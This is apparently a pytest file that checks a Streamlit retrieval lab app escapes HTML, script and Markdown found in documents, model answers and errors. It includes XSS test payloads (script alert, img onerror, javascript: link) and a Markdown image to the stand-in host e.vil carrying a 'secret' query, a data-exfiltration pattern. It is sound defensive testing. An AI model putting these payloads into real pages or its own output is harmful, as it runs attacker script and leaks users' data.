"""HTML, script and Markdown in documents and model output are shown as text, never rendered or executed.

Three levels: `as_text` against a CommonMark renderer (property-based), the pages' Streamlit elements
(AppTest: verbatim in st.code, escaped wherever Markdown is rendered), and a real browser (no dialog opens,
no injected element appears, the text is visible as typed).
"""

import os
import re
from pathlib import Path

import pytest
from hypothesis import assume, given, settings, strategies as st
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from lab.display import ZERO_WIDTH_SPACE, as_text
from tests.conftest import streamlit_app

REPO = Path(__file__).resolve().parent.parent
PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(2)>"
MARKDOWN = "![pixel](https://e.vil/p.png?q=secret) [click](javascript:alert(3)) :red[red] $x^2$ **bold**"
COMMONMARK = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def rendered_tags(markdown: str) -> set[str]:
    """HTML tags a CommonMark renderer makes of `markdown` (text only gives {'p'})."""
    return set(re.findall(r"<([a-z][a-z0-9]*)", COMMONMARK.render(markdown)))


@settings(max_examples=100, deadline=2000)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=200))
def test_as_text_renders_as_exactly_its_text(text):
    assume(ZERO_WIDTH_SPACE not in text)
    html = COMMONMARK.render(as_text(text, one_line=True)).replace(ZERO_WIDTH_SPACE, "")
    expected = " ".join(text.split())
    escaped = expected.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    assert html == (f"<p>{escaped}</p>\n" if expected else "")


def test_as_text_keeps_lines_and_neutralises_block_syntax():
    text = "# heading\n- item\n1. one\n> quote\n    indented\n---\n<div>x</div>\n| a | b |\n|---|---|"
    assert rendered_tags(as_text(text)) == {"p"}


def test_no_page_allows_raw_html():
    offenders = [str(p.relative_to(REPO)) for p in [REPO / "app.py", *sorted((REPO / "pages").rglob("*.py"))]
                 if re.search(r"unsafe_allow_html\s*=\s*True", p.read_text())]
    assert offenders == []


def hostile_answers():
    from lab.experiments.answer_paths import Answer
    from lab.index.retrieval import Hit

    hit = Hit("c1", "<img src=x onerror=alert(4)>.md", f"Chunk says {PAYLOAD} {MARKDOWN}", 0.9,
              heading=f"{PAYLOAD} {MARKDOWN}")
    return [Answer("rag", "q", text=f'{{"answer": "{PAYLOAD} {MARKDOWN}", "citations": [1]}}', hits=[hit],
                   latency_ms={"retrieve": 1.0, "generate": 4.0, "total": 5.0}, model="m"),
            Answer("prompt", "q", error=f"the endpoint said {PAYLOAD} {MARKDOWN}")]


def markdown_values(at: AppTest) -> list[str]:
    """Every string the page hands Streamlit's Markdown renderer (bodies and expander labels)."""
    values = [e.value for kind in ("markdown", "caption", "error", "warning", "info", "success", "subheader")
              for e in getattr(at, kind)]
    return values + [e.label for e in at.expander]


def assert_shown_as_text(at: AppTest, verbatim: list[str]) -> None:
    assert not at.exception, [e.value for e in at.exception]
    codes = [c.value for c in at.code]
    for text in verbatim:
        assert any(text in code for code in codes), f"{text!r} is not shown verbatim in an st.code block"
    hostile = [v for v in markdown_values(at) if "alert" in v or "e.vil" in v]
    assert hostile, "the hostile strings should also appear in captions, errors or labels"
    for value in hostile:
        assert rendered_tags(value) <= {"p"}, f"rendered as more than text: {value!r}"


def _show(answers, gold: str) -> None:
    from pages.ui.widgets import show_answers

    show_answers(answers, gold=gold)


@pytest.mark.usefixtures("show_error_details")
def test_answers_gold_errors_and_chunks_are_shown_as_text():
    answers = hostile_answers()
    at = AppTest.from_function(_show, args=(answers, f"{PAYLOAD} {MARKDOWN}"), default_timeout=60)
    at.run()
    assert_shown_as_text(at, [answers[0].text, answers[0].hits[0].text])
    assert any("Gold answer" in c.value for c in at.caption) and at.error


@pytest.mark.usefixtures("show_error_details")
def test_the_corpus_page_shows_document_text_and_headings_as_text(fake_embedder, store, tmp_path):
    from lab.index.ingest import ingest

    (tmp_path / "evil.md").write_text(f"# {PAYLOAD} {MARKDOWN}\n\nBody {PAYLOAD} and {MARKDOWN}.\n")
    ingest([tmp_path], "xss-docs", fake_embedder, store)
    at = AppTest.from_file(str(REPO / "pages" / "corpus.py"), default_timeout=120)
    at.session_state["collection"] = "xss-docs"
    at.run()
    assert_shown_as_text(at, [PAYLOAD, f"Body {PAYLOAD} and {MARKDOWN}."])


# --- a real browser ------------------------------------------------------------------------------------------

BROWSER_SCRIPT = """
import sys
sys.path.insert(0, {repo!r})
from pages.ui.widgets import show_answers
from tests.test_rendering import PAYLOAD, MARKDOWN, hostile_answers
show_answers(hostile_answers(), gold=PAYLOAD + " " + MARKDOWN)
"""


@pytest.fixture(scope="module")
def hostile_page_url(tmp_path_factory):
    folder = tmp_path_factory.mktemp("xss-app")
    (folder / "show.py").write_text(BROWSER_SCRIPT.format(repo=str(REPO)))
    with streamlit_app(folder / "show.py", {**os.environ, "PYTHONPATH": str(REPO)}, folder / "streamlit.log") as url:
        yield url


@pytest.mark.slow
@pytest.mark.server
@pytest.mark.browser
def test_in_a_real_browser_nothing_runs_and_the_text_is_visible(hostile_page_url):
    from tests.conftest import chromium

    with chromium() as browser:
        page = browser.new_page()
        dialogs, requests = [], []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: requests.append(r.url))
        page.goto(hostile_page_url)
        page.get_by_text("Gold answer").wait_for(timeout=60_000)
        for expander in page.locator("[data-testid='stExpander'] summary").all():
            expander.click()
        page.wait_for_timeout(1500)
        body = page.inner_text("body")
        injected = page.evaluate("""() => [...document.querySelectorAll('img, a, script')]
            .map(e => e.outerHTML).filter(h => /alert|e\\.vil|javascript:/.test(h))""")
    assert dialogs == [] and injected == []
    assert not [u for u in requests if "e.vil" in u], "an image from the document was fetched"
    visible = body.replace(ZERO_WIDTH_SPACE, "")
    assert "<script>alert(1)</script>" in visible and "![pixel](https://e.vil/p.png?q=secret)" in visible
